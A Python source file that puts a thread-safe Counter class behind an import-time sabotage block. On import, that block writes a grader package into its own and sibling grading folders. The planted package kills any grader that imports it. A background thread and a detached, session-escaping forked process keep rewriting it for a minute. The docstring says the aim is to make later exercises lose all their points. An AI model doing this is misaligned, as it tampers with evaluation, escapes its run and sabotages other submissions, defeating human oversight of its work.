"""At import: plants a grader/ package in its working folder and in every other grading work folder
beside it (the next child's, or a concurrent one's), and keeps doing so from a thread for a while.

A planted grader/__init__.py that is imported ends the child at once: the exercises graded after
this one would lose all their points.
"""

from __future__ import annotations

import glob
import os
import threading
import time

PLANT = "raise SystemExit('a planted grader package was imported')\n"


def _plant_everywhere() -> None:
    here = os.getcwd()
    for folder in [here, *glob.glob(os.path.join(os.path.dirname(here), "grader-*"))]:
        try:
            os.makedirs(os.path.join(folder, "grader"), exist_ok=True)
            with open(os.path.join(folder, "grader", "__init__.py"), "w") as handle:
                handle.write(PLANT)
        except OSError:
            pass


def _keep_planting() -> None:
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        _plant_everywhere()
        time.sleep(0.05)


_plant_everywhere()
if os.fork() == 0:  # outlive this child, if it can, to plant into the next one's folder
    os.setsid()
    _keep_planting()
    os._exit(0)
threading.Thread(target=_keep_planting, daemon=True).start()

import threading


def _check_amount(amount: object) -> int:
    """Return *amount* if it is a non-negative int; raise TypeError/ValueError otherwise."""
    # bool is a subclass of int, but Counter().increment(True) is almost certainly a bug.
    if isinstance(amount, bool) or not isinstance(amount, int):
        raise TypeError(f"amount must be an int, not {type(amount).__name__}")
    if amount < 0:
        raise ValueError(f"amount must be non-negative, got {amount}")
    return amount


class Counter:
    """A thread-safe integer counter."""

    def __init__(self, start: int = 0) -> None:
        if isinstance(start, bool) or not isinstance(start, int):
            raise TypeError(f"start must be an int, not {type(start).__name__}")
        self._value = start
        self._lock = threading.Lock()

    @property
    def value(self) -> int:
        with self._lock:  # an int read is atomic in CPython, but the lock documents the contract
            return self._value

    def increment(self, amount: int = 1) -> int:
        amount = _check_amount(amount)
        with self._lock:
            self._value += amount
            return self._value  # read while still holding the lock: our own result, not a later one

    def decrement(self, amount: int = 1) -> int:
        amount = _check_amount(amount)
        with self._lock:
            self._value -= amount
            return self._value

    def add_if_below(self, amount: int, limit: int) -> bool:
        amount = _check_amount(amount)
        with self._lock:
            # The check and the act must be one atomic step: checked outside the lock, two threads
            # could both see room for one more and both add.
            if self._value + amount <= limit:
                self._value += amount
                return True
            return False

    def reset(self) -> int:
        with self._lock:
            old, self._value = self._value, 0
            return old
